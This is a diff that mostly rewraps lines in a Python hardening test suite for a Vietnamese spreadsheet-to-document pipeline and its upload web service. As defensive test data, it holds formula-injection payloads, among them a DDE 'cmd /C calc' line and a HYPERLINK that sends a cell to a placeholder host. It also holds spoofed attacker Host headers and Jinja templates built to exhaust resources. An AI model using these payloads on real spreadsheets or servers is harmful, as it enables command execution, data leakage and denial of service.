@@ -15,6 +15,7 @@ tests/test_hardening.py and tests/test_make_hardening.py, and pytest's
 9. photos_*    a symlinked anh/ folder
 10. dates_*    every date range-checked; `{_{` printed as written
 """
+
 from __future__ import annotations
 
 import re
@@ -35,9 +36,13 @@ from pipeline.validate import validate
 from .conftest import ROOT, SAMPLE
 
 MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
-ATTACKS = ['=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
-           "=cmd|' /C calc'!A0", '=WEBSERVICE("http://example.invalid/")',
-           "+1+cmd|' /C calc'!A0", "@SUM(1+1)"]
+ATTACKS = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")',
+    "=cmd|' /C calc'!A0",
+    '=WEBSERVICE("http://example.invalid/")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+]
 
 
 def problems_of(folder: Path) -> list[str]:
@@ -47,6 +52,7 @@ def problems_of(folder: Path) -> list[str]:
 
 
 # =========================================================================== 1. inject
+
 
 def _hostile_campaign(target: Path, attack: str) -> Path:
     """The sample with the cluster's and every unit's name replaced by `attack` (+ a code)."""
@@ -114,15 +120,17 @@ def test_inject_every_workbook_the_project_writes_has_no_formula_from_data(tmp_p
     build_summary(tmp_path / "inputs", out, 2020, date(2020, 12, 21))
     from pipeline.collect.linkbook import link_workbook  # the units' links (issue 22)
 
-    (out / "duong-dan.xlsx").write_bytes(link_workbook(
-        attack, [("PL", attack, f"https://example.invalid/nop/{attack}")], None))
+    (out / "duong-dan.xlsx").write_bytes(
+        link_workbook(attack, [("PL", attack, f"https://example.invalid/nop/{attack}")], None)
+    )
     written = sorted(out.rglob("*.xlsx"))
     assert len(written) >= 4 + 1  # a form, the blank workbook, the summary, the links
     assert [f for path in written for f in live_formulas(path)] == []
     for path in written:
         with zipfile.ZipFile(path) as archive:
-            text = "".join(archive.read(n).decode("utf-8") for n in archive.namelist()
-                           if n.startswith("xl/worksheets/"))
+            text = "".join(
+                archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/")
+            )
         if "<f>" not in text:
             assert not recalculates_on_open(path), path.name
 
@@ -144,10 +152,11 @@ def rewrite_part(path: Path, part: str, change) -> None:
 
 def _without_r(xml: str, row: int, cell: str, replacement: str) -> str:
     """Row `row` with its cells placed by order (no `r`), `cell` replaced."""
+
     def strip(match):
-        text = match.group(0).replace(f'<c r="{cell}" s="2" t="n"><v>894000</v></c>',
-                                      replacement)
+        text = match.group(0).replace(f'<c r="{cell}" s="2" t="n"><v>894000</v></c>', replacement)
         return re.sub(r'<c r="[A-Z]+\d+"', "<c", text)
+
     return re.sub(rf'<row r="{row}">.*?</row>', strip, xml, count=1)
 
 
@@ -156,41 +165,59 @@ def test_guard_formula_without_value_in_a_row_without_r_is_an_error(campaign_dir
     def change(xml):
         xml = _without_r(xml, 2, "G2", '<c s="2"><f>894000*1</f></c>')
         return xml if row_r else xml.replace('<row r="2">', "<row>", 1)
+
     rewrite_part(campaign_dir / WORKBOOK, AWARDS_PART, change)
     problems = problems_of(campaign_dir)
-    assert any(p.startswith('du-lieu.xlsx › Khen thưởng › dòng 2 › cột "Mức thưởng": ô G2 có '
-                            "công thức (=894000*1) nhưng chưa có giá trị tính sẵn")
-               for p in problems), problems
+    assert any(
+        p.startswith(
+            'du-lieu.xlsx › Khen thưởng › dòng 2 › cột "Mức thưởng": ô G2 có '
+            "công thức (=894000*1) nhưng chưa có giá trị tính sẵn"
+        )
+        for p in problems
+    ), problems
 
 
 def test_guard_cells_without_r_with_values_are_read_as_before(campaign_dir):
-    rewrite_part(campaign_dir / WORKBOOK, AWARDS_PART, lambda x: _without_r(
-        x, 2, "G2", '<c s="2" t="n"><f>894000*1</f><v>894000</v></c>'))
+    rewrite_part(
+        campaign_dir / WORKBOOK,
+        AWARDS_PART,
+        lambda x: _without_r(x, 2, "G2", '<c s="2" t="n"><f>894000*1</f><v>894000</v></c>'),
+    )
     raw = load_campaign(campaign_dir)
     assert not raw.problems
     validate(raw)
 
 
-@pytest.mark.parametrize("sheet,part,cell", [
-    ("Chấm điểm", "xl/worksheets/sheet4.xml", "D2"),  # a score
-    ("Lịch kiểm tra", "xl/worksheets/sheet7.xml", "C2"),  # a date
-])
-def test_guard_formula_without_value_in_any_printed_number_is_an_error(campaign_dir, sheet,
-                                                                        part, cell):
+@pytest.mark.parametrize(
+    "sheet,part,cell",
+    [
+        ("Chấm điểm", "xl/worksheets/sheet4.xml", "D2"),  # a score
+        ("Lịch kiểm tra", "xl/worksheets/sheet7.xml", "C2"),  # a date
+    ],
+)
+def test_guard_formula_without_value_in_any_printed_number_is_an_error(campaign_dir, sheet, part, cell):
     def change(xml):
-        return re.sub(rf'<c r="{cell}"([^>]*?)(?: t="\w+")?>(?:<v>[^<]*</v>|<is>.*?</is>)</c>',
-                      rf'<c r="{cell}"\1><f>1+1</f></c>', xml, count=1)
+        return re.sub(
+            rf'<c r="{cell}"([^>]*?)(?: t="\w+")?>(?:<v>[^<]*</v>|<is>.*?</is>)</c>',
+            rf'<c r="{cell}"\1><f>1+1</f></c>',
+            xml,
+            count=1,
+        )
+
     rewrite_part(campaign_dir / WORKBOOK, part, change)
     problems = problems_of(campaign_dir)
-    assert any(f"› {sheet} › dòng 2" in p and f"ô {cell} có công thức (=1+1)" in p
-               for p in problems), problems
+    assert any(f"› {sheet} › dòng 2" in p and f"ô {cell} có công thức (=1+1)" in p for p in problems), problems
 
 
 # =========================================================================== 4. long
 
+
 def _inline(path: Path, part: str, cell: str, size: int) -> None:
-    rewrite_part(path, part, lambda x: re.sub(
-        rf'(<c r="{cell}"[^>]*><is><t>)[^<]*', lambda m: m.group(1) + "Đ" + "x" * (size - 1), x))
+    rewrite_part(
+        path,
+        part,
+        lambda x: re.sub(rf'(<c r="{cell}"[^>]*><is><t>)[^<]*', lambda m: m.group(1) + "Đ" + "x" * (size - 1), x),
+    )
 
 
 def _huge_inline(path: Path, part: str, cell: str, chars: int) -> None:
@@ -219,18 +246,22 @@ def test_long_190_mb_inline_cell_is_refused_fast_small_and_quoted_short(campaign
     import sys
     import time
 
-    _huge_inline(campaign_dir / WORKBOOK, "xl/worksheets/sheet2.xml", "B2", 190 * 2 ** 20)
+    _huge_inline(campaign_dir / WORKBOOK, "xl/worksheets/sheet2.xml", "B2", 190 * 2**20)
     assert (campaign_dir / WORKBOOK).stat().st_size < 1024 * 1024
 
     def cap():
-        resource.setrlimit(resource.RLIMIT_AS, (1024 ** 3, 1024 ** 3))
+        resource.setrlimit(resource.RLIMIT_AS, (1024**3, 1024**3))
 
     outputs = tmp_path / "outputs"
     started = time.monotonic()
-    run = subprocess.run([sys.executable, "-m", "pipeline", "build", "--inputs",
-                          str(campaign_dir.parent), "--outputs", str(outputs)],
-                         capture_output=True, text=True, timeout=120, preexec_fn=cap,
-                         env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT)})
+    run = subprocess.run(
+        [sys.executable, "-m", "pipeline", "build", "--inputs", str(campaign_dir.parent), "--outputs", str(outputs)],
+        capture_output=True,
+        text=True,
+        timeout=120,
+        preexec_fn=cap,
+        env={"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT)},
+    )
     took = time.monotonic() - started
     assert run.returncode != 0 and took < 20, (took, run.stderr[-500:])
     said = run.stdout + run.stderr
@@ -249,17 +280,23 @@ def test_long_shared_string_over_the_limit_names_its_cell_and_quotes_an_excerpt(
     book.active.title = "Đơn vị"
     book.active["A1"], book.active["B2"] = "Mã", "x"
     book.save(path)
-    rewrite_part(path, "xl/worksheets/sheet1.xml", lambda x: re.sub(
-        r'<c r="B2"[^>]*>.*?</c>', '<c r="B2" t="s"><v>1</v></c>', x))
+    rewrite_part(
+        path, "xl/worksheets/sheet1.xml", lambda x: re.sub(r'<c r="B2"[^>]*>.*?</c>', '<c r="B2" t="s"><v>1</v></c>', x)
+    )
     with zipfile.ZipFile(path, "a") as archive:
-        archive.writestr("xl/sharedStrings.xml", (
-            f'<sst xmlns="{MAIN[1:-1]}"><si><t>Mã</t></si><si><r><t>Phúc Đồng </t></r>'
-            f'<r><t>{"y" * 40_000}</t></r></si></sst>'))
+        archive.writestr(
+            "xl/sharedStrings.xml",
+            (
+                f'<sst xmlns="{MAIN[1:-1]}"><si><t>Mã</t></si><si><r><t>Phúc Đồng </t></r>'
+                f"<r><t>{'y' * 40_000}</t></r></si></sst>"
+            ),
+        )
     report = inspect_workbook(path, path.name, lambda n: True)["Đơn vị"]
     [issue] = report.issues
     assert (issue.row, issue.column) == (2, 2)
-    assert issue.message.startswith('ô B2 có 40010 ký tự, quá giới hạn 32767 ký tự của một ô '
-                                    'Excel (bắt đầu bằng "Phúc Đồng yyyyyyyyyy')
+    assert issue.message.startswith(
+        'ô B2 có 40010 ký tự, quá giới hạn 32767 ký tự của một ô Excel (bắt đầu bằng "Phúc Đồng yyyyyyyyyy'
+    )
     assert len(issue.message) < 300
 
 
@@ -271,6 +308,7 @@ def test_long_header_cell_is_quoted_as_an_excerpt(campaign_dir):
 
 
 # =========================================================================== 3, 6, 7, 8: web
+
 
 def _web(tmp_path, **kw):
     from starlette.testclient import TestClient
@@ -291,13 +329,26 @@ def _policy(host="127.0.0.1", port=8000, **environ):
 
 
 def _post(client, **headers):
-    return client.post("/tai-len", data={"dot": "cum-1-2020"}, headers=headers, files=[
-        ("du_lieu", ("du-lieu.xlsx", (SAMPLE / WORKBOOK).read_bytes(), "application/x"))])
+    return client.post(
+        "/tai-len",
+        data={"dot": "cum-1-2020"},
+        headers=headers,
+        files=[("du_lieu", ("du-lieu.xlsx", (SAMPLE / WORKBOOK).read_bytes(), "application/x"))],
+    )
 
 
-@pytest.mark.parametrize("host", ["attacker.example", "attacker.example:8000",
-                                  "127.0.0.1.attacker.example", "localhost.:8000@evil",
-                                  "", "[::1", "127.0.0.1:80:80"])
+@pytest.mark.parametrize(
+    "host",
+    [
+        "attacker.example",
+        "attacker.example:8000",
+        "127.0.0.1.attacker.example",
+        "localhost.:8000@evil",
+        "",
+        "[::1",
+        "127.0.0.1:80:80",
+    ],
+)
 def test_host_rebinding_names_are_answered_400(tmp_path, host):
     _, client = _web(tmp_path, policy=_policy())
     answer = client(base_url="http://127.0.0.1:8000").get("/", headers={"Host": host})
@@ -306,16 +357,19 @@ def test_host_rebinding_names_are_answered_400(tmp_path, host):
     assert not (tmp_path / "inputs" / "cum-1-2020").exists()
 
 
-@pytest.mark.parametrize("host", ["127.0.0.1:8000", "localhost:8000", "[::1]:8000",
-                                  "LOCALHOST.:8000"])
+@pytest.mark.parametrize("host", ["127.0.0.1:8000", "localhost:8000", "[::1]:8000", "LOCALHOST.:8000"])
 def test_host_loopback_names_are_answered(tmp_path, host):
     _, client = _web(tmp_path, policy=_policy())
     assert client().get("/", headers={"Host": host}).status_code == 200
 
 
 def test_host_lan_names_public_url_and_configured_host_are_answered(tmp_path):
-    policy = _policy("192.168.1.5", 8000, VANBAN_HOSTS="vanban.ubnd.local, may-chu",
-                     VANBAN_PUBLIC_URL="https://vanban.example.gov.vn/")
+    policy = _policy(
+        "192.168.1.5",
+        8000,
+        VANBAN_HOSTS="vanban.ubnd.local, may-chu",
+        VANBAN_PUBLIC_URL="https://vanban.example.gov.vn/",
+    )
     _, client = _web(tmp_path, policy=policy)
     for host in ("192.168.1.5:8000", "vanban.ubnd.local:8000", "may-chu", "vanban.example.gov.vn"):
         assert client().get("/", headers={"Host": host}).status_code == 200, host
@@ -342,8 +396,10 @@ def test_host_origin_from_a_rebinding_domain_is_refused(tmp_path):
     assert answer.status_code == 303
 
 
-@pytest.mark.parametrize("origin", ["https://127.0.0.1:8000", "http://127.0.0.1:8001",
-                                    "http://127.0.0.1", "null", "file://", "ftp://127.0.0.1:8000"])
+@pytest.mark.parametrize(
+    "origin",
+    ["https://127.0.0.1:8000", "http://127.0.0.1:8001", "http://127.0.0.1", "null", "file://", "ftp://127.0.0.1:8000"],
+)
 def test_host_origin_with_another_scheme_or_port_is_refused(tmp_path, origin):
     _, client = _web(tmp_path, policy=_policy())
     assert _post(client(), Host="127.0.0.1:8000", Origin=origin).status_code == 403
@@ -356,16 +412,20 @@ def test_host_origin_scheme_is_checked_without_a_policy_too(tmp_path):
 
 
 def test_host_public_url_origin_behind_the_proxy_is_accepted(tmp_path):
-    policy = _policy(VANBAN_PUBLIC_URL="https://vanban.example.gov.vn",
-                     VANBAN_TRUSTED_PROXY="10.0.0.1")
+    policy = _policy(VANBAN_PUBLIC_URL="https://vanban.example.gov.vn", VANBAN_TRUSTED_PROXY="10.0.0.1")
     _, client = _web(tmp_path, policy=policy)
     through = client(client=("10.0.0.1", 4000))
-    answer = _post(through, Host="127.0.0.1:8000", **{
-        "X-Forwarded-Host": "vanban.example.gov.vn", "X-Forwarded-Proto": "https",
-        "Origin": "https://vanban.example.gov.vn"})
+    answer = _post(
+        through,
+        Host="127.0.0.1:8000",
+        **{
+            "X-Forwarded-Host": "vanban.example.gov.vn",
+            "X-Forwarded-Proto": "https",
+            "Origin": "https://vanban.example.gov.vn",
+        },
+    )
     assert answer.status_code == 303
-    assert _post(through, Host="127.0.0.1:8000", **{"X-Forwarded-Host": "attacker.example"}
-                 ).status_code == 400
+    assert _post(through, Host="127.0.0.1:8000", **{"X-Forwarded-Host": "attacker.example"}).status_code == 400
 
 
 @pytest.mark.slow
@@ -378,16 +438,15 @@ def test_host_forwarded_headers_from_anyone_but_the_proxy_are_ignored(tmp_path):
     direct = client(client=("192.168.1.20", 5000))
     # A client cannot spread its guesses over made-up addresses...
     for i in range(3):
-        direct.get("/", auth=("a", "sai"), headers={"Host": "127.0.0.1:8000",
-                                                    "X-Forwarded-For": f"10.9.9.{i}"})
+        direct.get("/", auth=("a", "sai"), headers={"Host": "127.0.0.1:8000", "X-Forwarded-For": f"10.9.9.{i}"})
     assert throttle.failures("192.168.1.20") == 2 and throttle.failures("10.9.9.0") == 0
     # ...nor choose the Host the allowlist sees.
-    assert direct.get("/", headers={"Host": "127.0.0.1:8000", "X-Forwarded-Host":
-                                    "attacker.example"}).status_code == 429
+    assert (
+        direct.get("/", headers={"Host": "127.0.0.1:8000", "X-Forwarded-Host": "attacker.example"}).status_code == 429
+    )
     # Through the proxy, each user is counted on their own address.
     proxy = client(client=("10.0.0.1", 4000))
-    proxy.get("/", auth=("a", "sai"), headers={"Host": "127.0.0.1:8000",
-                                               "X-Forwarded-For": "203.0.113.9"})
+    proxy.get("/", auth=("a", "sai"), headers={"Host": "127.0.0.1:8000", "X-Forwarded-For": "203.0.113.9"})
     assert throttle.failures("203.0.113.9") == 1 and throttle.failures("10.0.0.1") == 0
 
 
@@ -453,13 +512,15 @@ def test_password_guesses_are_slowed_per_client_then_refused(tmp_path):
 
 # =========================================================================== 9. photos
 
+
 def test_photos_symlinked_anh_folder_leading_out_is_refused(campaign_dir, tmp_path):
     outside = tmp_path / "elsewhere"
     shutil.move(str(campaign_dir / "anh"), outside)
     (campaign_dir / "anh").symlink_to(outside, target_is_directory=True)
     problems = problems_of(campaign_dir)
-    assert any("› Ảnh › dòng 2 › cột \"Tệp\": thư mục anh/ của đợt thi đua là lối tắt ra ngoài"
-               in p for p in problems), problems
+    assert any('› Ảnh › dòng 2 › cột "Tệp": thư mục anh/ của đợt thi đua là lối tắt ra ngoài' in p for p in problems), (
+        problems
+    )
 
 
 def test_photos_anh_linked_to_a_folder_inside_the_campaign_still_works(campaign_dir):
@@ -470,20 +531,25 @@ def test_photos_anh_linked_to_a_folder_inside_the_campaign_still_works(campaign_
 
 # =========================================================================== 10. dates
 
-@pytest.mark.parametrize("sheet,cell,value,row", [
-    ("Chung", "B10", "17/8/0020 14:00", 10),  # Bắt đầu họp
-    ("Chung", "B8", "14/8/2200", 8),  # Ngày kiểm tra
-    ("Lịch kiểm tra", "C2", "14/8/1999 14:00", 2),
-])
-def test_dates_year_outside_2000_2100_is_an_error_naming_the_cell(campaign_dir, sheet, cell,
-                                                                   value, row):
+
+@pytest.mark.parametrize(
+    "sheet,cell,value,row",
+    [
+        ("Chung", "B10", "17/8/0020 14:00", 10),  # Bắt đầu họp
+        ("Chung", "B8", "14/8/2200", 8),  # Ngày kiểm tra
+        ("Lịch kiểm tra", "C2", "14/8/1999 14:00", 2),
+    ],
+)
+def test_dates_year_outside_2000_2100_is_an_error_naming_the_cell(campaign_dir, sheet, cell, value, row):
     from .conftest import edit_workbook
 
     edit_workbook(campaign_dir / WORKBOOK, {(sheet, cell): value})
     problems = problems_of(campaign_dir)
     year = value.split("/")[2].split()[0]
-    assert any(f"› {sheet} › dòng {row}" in p and f'ngày "{value}" có năm {int(year)} nằm ngoài '
-               "khoảng 2000–2100" in p for p in problems), problems
+    assert any(
+        f"› {sheet} › dòng {row}" in p and f'ngày "{value}" có năm {int(year)} nằm ngoài khoảng 2000–2100' in p
+        for p in problems
+    ), problems
 
 
 def test_dates_a_date_typed_as_a_date_cell_is_range_checked_too(campaign_dir):
@@ -493,8 +559,7 @@ def test_dates_a_date_typed_as_a_date_cell_is_range_checked_too(campaign_dir):
 
     edit_workbook(campaign_dir / WORKBOOK, {("Chung", "B11"): datetime(1920, 8, 17, 16, 30)})
     problems = problems_of(campaign_dir)
-    assert any("› Chung › dòng 11" in p and "có năm 1920 nằm ngoài khoảng 2000–2100" in p
-               for p in problems), problems
+    assert any("› Chung › dòng 11" in p and "có năm 1920 nằm ngoài khoảng 2000–2100" in p for p in problems), problems
 
 
 def _document_text(path: Path) -> str:
@@ -502,7 +567,8 @@ def _document_text(path: Path) -> str:
 
     document = docx.Document(str(path))
     return "\n".join(p.text for p in document.paragraphs) + "\n".join(
-        c.text for t in document.tables for r in t.rows for c in r.cells)
+        c.text for t in document.tables for r in t.rows for c in r.cells
+    )
 
 
 @pytest.mark.slow
@@ -519,10 +585,11 @@ def test_dates_template_escapes_in_data_are_printed_as_written(campaign_dir, tmp
     assert name in plan and "{{" not in plan
     news = _document_text(tmp_path / campaign_dir.name / "tin-bai.docx")  # docxtpl's own path
     assert caption in news and "{{" not in news
-    assert "\U000FFFFD" not in plan + news
+    assert "\U000ffffd" not in plan + news
 
 
 # =========================================================================== 5. watch
+
 
 def _hostile_inputs(tmp_path: Path) -> tuple[Path, Path]:
     import os
@@ -573,9 +640,24 @@ def test_watch_stops_within_5_s_whatever_it_waits_on(tmp_path, sig):
         fcntl.flock(handle, fcntl.LOCK_EX)
         held.append(handle)
     process = subprocess.Popen(
-        [sys.executable, "-m", "pipeline", "watch", "--inputs", str(inputs), "--outputs",
-         str(outputs), "--quiet", "0.2"], cwd=ROOT, stdout=subprocess.PIPE,
-        stderr=subprocess.PIPE, text=True, env=dict(os.environ, PYTHONPATH=str(ROOT)))
+        [
+            sys.executable,
+            "-m",
+            "pipeline",
+            "watch",
+            "--inputs",
+            str(inputs),
+            "--outputs",
+            str(outputs),
+            "--quiet",
+            "0.2",
+        ],
+        cwd=ROOT,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        env=dict(os.environ, PYTHONPATH=str(ROOT)),
+    )
     try:
         first = [process.stdout.readline() for _ in range(2)]
         assert "Đang theo dõi" in "".join(first) and "lien-ket: thư mục là lối tắt" in first[0]
@@ -605,6 +687,7 @@ def test_watch_stops_within_5_s_whatever_it_waits_on(tmp_path, sig):
 
 # =========================================================================== LibreOffice
 
+
 def _counting_soffice(tmp_path: Path, pdf: Path) -> str:
     """A stand-in for soffice that records how many copies of it run at once."""
     script = tmp_path / "soffice"
@@ -625,12 +708,12 @@ rm {running}/$$
 
 
 @pytest.mark.slow
-def test_previews_of_40_campaigns_at_once_run_at_most_one_libreoffice_per_core(
-        tmp_path, monkeypatch):
+def test_previews_of_40_campaigns_at_once_run_at_most_one_libreoffice_per_core(tmp_path, monkeypatch):
     import os
     import threading
 
     import matplotlib
+
     matplotlib.use("Agg")
     from matplotlib import pyplot
 
@@ -699,8 +782,7 @@ def test_watch_and_serve_on_the_same_inputs_build_an_upload_once(tmp_path, monke
             time.sleep(0.2)
         time.sleep(1.0)  # anything still due would have started by now
         assert builds == ["cum-1-2020"], (builds, lines)
-        assert lines == ["cum-1-2020: văn bản đã được tạo từ đúng các tệp này (trang web hoặc "
-                         "make), không tạo lại."]
+        assert lines == ["cum-1-2020: văn bản đã được tạo từ đúng các tệp này (trang web hoặc make), không tạo lại."]
         # A change made afterwards is built by the watcher, once.
         workbook = inputs / "cum-1-2020" / WORKBOOK
         workbook.write_bytes(workbook.read_bytes())
@@ -714,12 +796,16 @@ def test_watch_and_serve_on_the_same_inputs_build_an_upload_once(tmp_path, monke
 
 # =========================================================================== not re-run before
 
-@pytest.mark.parametrize("tag", [
-    "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
-    "{% set s = 'x' * 100000 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}",
-    "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}",
-    "{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}",
-])
+
+@pytest.mark.parametrize(
+    "tag",
+    [
+        "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}",
+        "{% set s = 'x' * 100000 %}{% for a in s %}{% for b in s %}{% endfor %}{% endfor %}",
+        "{% macro f(n) %}{{ f(n) }}{% endmacro %}{{ f(1) }}",
+        "{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}",
+    ],
+)
 @pytest.mark.slow
 def test_loops_that_never_end_in_a_template_are_stopped(tmp_path, tag):
     import os
@@ -731,8 +817,9 @@ def test_loops_that_never_end_in_a_template_are_stopped(tmp_path, tag):
 
     env = dict(os.environ, OPENBLAS_NUM_THREADS="1", PYTHONPATH=str(ROOT))
     start = time.monotonic()
-    run = subprocess.run([sys.executable, "-c", SANDBOX_PROBE, str(tmp_path), tag], env=env,
-                         capture_output=True, text=True, timeout=60)
+    run = subprocess.run(
+        [sys.executable, "-c", SANDBOX_PROBE, str(tmp_path), tag], env=env, capture_output=True, text=True, timeout=60
+    )
     assert time.monotonic() - start < 20
     assert run.returncode == 3, run.stderr[-2000:]
     assert run.stdout.startswith("Mẫu t.docx: phép tính quá lớn (")
@@ -746,8 +833,9 @@ def test_loops_ordinary_loops_still_render(tmp_path):
     from .docx_tools import paragraphs
 
     doc = Document()
-    doc.add_paragraph("{% for x in items %}{{ loop.index }}{{ x }}{% if loop.last %}/"
-                      "{{ loop.length }}{% endif %}{% endfor %}")
+    doc.add_paragraph(
+        "{% for x in items %}{{ loop.index }}{{ x }}{% if loop.last %}/{{ loop.length }}{% endif %}{% endfor %}"
+    )
     doc.save(tmp_path / "t.docx")
     (tmp_path / "out.docx").write_bytes(render_bytes("t", {"items": ["a", "b"]}, tmp_path))
     assert paragraphs(tmp_path / "out.docx") == ["1a2b/2"]
@@ -758,16 +846,24 @@ def _make(tree: Path, *goals: str, background: bool = False):
 
     from .test_make_hardening import VENV
 
-    command = ["make", "--no-print-directory", "-C", str(ROOT), *goals, f"VENV={VENV}",
-               f"INPUTS={tree / 'inputs'}", f"OUTPUTS={tree / 'outputs'}",
-               f"TEMPLATES={ROOT / 'templates_docx'}"]
+    command = [
+        "make",
+        "--no-print-directory",
+        "-C",
+        str(ROOT),
+        *goals,
+        f"VENV={VENV}",
+        f"INPUTS={tree / 'inputs'}",
+        f"OUTPUTS={tree / 'outputs'}",
+        f"TEMPLATES={ROOT / 'templates_docx'}",
+    ]
     if background:
         # Output to files, not pipes: one goal waiting on the other's lock must never be
         # stuck behind a pipe that nobody is reading.
         import tempfile
+
         out, err = tempfile.TemporaryFile(mode="w+"), tempfile.TemporaryFile(mode="w+")
-        run = subprocess.Popen(command, stdout=out, stderr=err, text=True,
-                               start_new_session=True)
+        run = subprocess.Popen(command, stdout=out, stderr=err, text=True, start_new_session=True)
         run.outputs = (out, err)
         return run
     return subprocess.run(command, capture_output=True, text=True, timeout=600)
@@ -780,14 +876,16 @@ def _consistent(outputs: Path) -> None:
 
     from pipeline.files import TEMP_PREFIX, TEMP_SUFFIX
 
-    leftovers = [p for p in outputs.rglob("*") if p.name.startswith(TEMP_PREFIX)
-                 and p.name.endswith(TEMP_SUFFIX) or p.name.startswith(".hang-doi")]
+    leftovers = [
+        p
+        for p in outputs.rglob("*")
+        if p.name.startswith(TEMP_PREFIX) and p.name.endswith(TEMP_SUFFIX) or p.name.startswith(".hang-doi")
+    ]
     assert leftovers == []
     for manifest in outputs.rglob(".vanban-manifest.json"):
         for name, digest in json.loads(manifest.read_text(encoding="utf-8")).items():
             path = manifest.parent / name
-            assert path.is_file() and hashlib.sha256(path.read_bytes()).hexdigest() == digest, \
-                path
+            assert path.is_file() and hashlib.sha256(path.read_bytes()).hexdigest() == digest, path
     kept = [p for p in outputs.rglob("*") if "sua-tay" in p.name or "ban-sua" in p.name]
     assert kept == []  # no document taken for a hand edit
 
@@ -854,8 +952,7 @@ def test_two_goals_at_once_on_a_300_unit_campaign(tmp_path):
 
 
 @pytest.mark.slow
-@pytest.mark.parametrize("umask,file_mode,dir_mode", [(0o022, 0o644, 0o755),
-                                                       (0o002, 0o664, 0o775)])
+@pytest.mark.parametrize("umask,file_mode,dir_mode", [(0o022, 0o644, 0o755), (0o002, 0o664, 0o775)])
 def test_modes_follow_the_umask_for_every_file_written(tmp_path, umask, file_mode, dir_mode):
     import os
     import stat
@@ -864,21 +961,42 @@ def test_modes_follow_the_umask_for_every_file_written(tmp_path, umask, file_mod
 
     shutil.copytree(SAMPLE, tmp_path / "inputs" / SAMPLE.name)
     outputs = tmp_path / "outputs"
-    run = subprocess.run([sys.executable, "-m", "pipeline", "build", "--inputs",
-                          str(tmp_path / "inputs"), "--outputs", str(outputs), "-d", "ke-hoach"],
-                         capture_output=True, text=True, timeout=300,
-                         preexec_fn=lambda: os.umask(umask),
-                         env=dict(os.environ, PYTHONPATH=str(ROOT)))
+    run = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "pipeline",
+            "build",
+            "--inputs",
+            str(tmp_path / "inputs"),
+            "--outputs",
+            str(outputs),
+            "-d",
+            "ke-hoach",
+        ],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        preexec_fn=lambda: os.umask(umask),
+        env=dict(os.environ, PYTHONPATH=str(ROOT)),
+    )
     assert run.returncode == 0, run.stderr
-    blank = subprocess.run([sys.executable, "-m", "pipeline", "blank", "--out",
-                            str(outputs / "du-lieu-trong.xlsx")], capture_output=True, text=True,
-                           timeout=300, preexec_fn=lambda: os.umask(umask),
-                           env=dict(os.environ, PYTHONPATH=str(ROOT)))
+    blank = subprocess.run(
+        [sys.executable, "-m", "pipeline", "blank", "--out", str(outputs / "du-lieu-trong.xlsx")],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        preexec_fn=lambda: os.umask(umask),
+        env=dict(os.environ, PYTHONPATH=str(ROOT)),
+    )
     assert blank.returncode == 0, blank.stderr
     files = [p for p in outputs.rglob("*") if p.is_file() and not p.name.startswith(".vanban-khoa")]
     assert len(files) >= 4
-    wrong = {str(p.relative_to(outputs)): oct(stat.S_IMODE(p.stat().st_mode)) for p in files
-             if stat.S_IMODE(p.stat().st_mode) != file_mode}
+    wrong = {
+        str(p.relative_to(outputs)): oct(stat.S_IMODE(p.stat().st_mode))
+        for p in files
+        if stat.S_IMODE(p.stat().st_mode) != file_mode
+    }
     assert wrong == {}
     folders = [p for p in outputs.rglob("*") if p.is_dir()]
     assert folders and all(stat.S_IMODE(p.stat().st_mode) == dir_mode for p in folders)
@@ -902,13 +1020,28 @@ def test_photo_of_50_megapixels_builds_the_news_fast_under_1_gib(campaign_dir, t
     Image.new("RGB", size, (90, 120, 150)).save(photo, "JPEG", quality=70)
 
     def cap():
-        resource.setrlimit(resource.RLIMIT_AS, (1024 ** 3, 1024 ** 3))
+        resource.setrlimit(resource.RLIMIT_AS, (1024**3, 1024**3))
 
     started = time.monotonic()
-    run = subprocess.run([sys.executable, "-m", "pipeline", "build", "--inputs",
-                          str(campaign_dir.parent), "--outputs", str(tmp_path / "out"), "-d",
-                          "tin-bai"], capture_output=True, text=True, timeout=300, preexec_fn=cap,
-                         env=dict(os.environ, PYTHONPATH=str(ROOT), OPENBLAS_NUM_THREADS="1"))
+    run = subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "pipeline",
+            "build",
+            "--inputs",
+            str(campaign_dir.parent),
+            "--outputs",
+            str(tmp_path / "out"),
+            "-d",
+            "tin-bai",
+        ],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        preexec_fn=cap,
+        env=dict(os.environ, PYTHONPATH=str(ROOT), OPENBLAS_NUM_THREADS="1"),
+    )
     assert run.returncode == 0, run.stderr[-1000:]
     assert time.monotonic() - started < 60
     news = tmp_path / "out" / campaign_dir.name / "tin-bai.docx"
@@ -922,10 +1055,25 @@ def _build_run(inputs: Path, outputs: Path, preexec=None):
     import subprocess
     import sys
 
-    return subprocess.run([sys.executable, "-m", "pipeline", "build", "--inputs", str(inputs),
-                           "--outputs", str(outputs), "-d", "ke-hoach"], capture_output=True,
-                          text=True, timeout=300, preexec_fn=preexec,
-                          env=dict(os.environ, PYTHONPATH=str(ROOT)))
+    return subprocess.run(
+        [
+            sys.executable,
+            "-m",
+            "pipeline",
+            "build",
+            "--inputs",
+            str(inputs),
+            "--outputs",
+            str(outputs),
+            "-d",
+            "ke-hoach",
+        ],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        preexec_fn=preexec,
+        env=dict(os.environ, PYTHONPATH=str(ROOT)),
+    )
 
 
 @pytest.mark.slow
@@ -988,12 +1136,17 @@ def test_libreoffice_places_are_shared_between_processes(tmp_path):
 
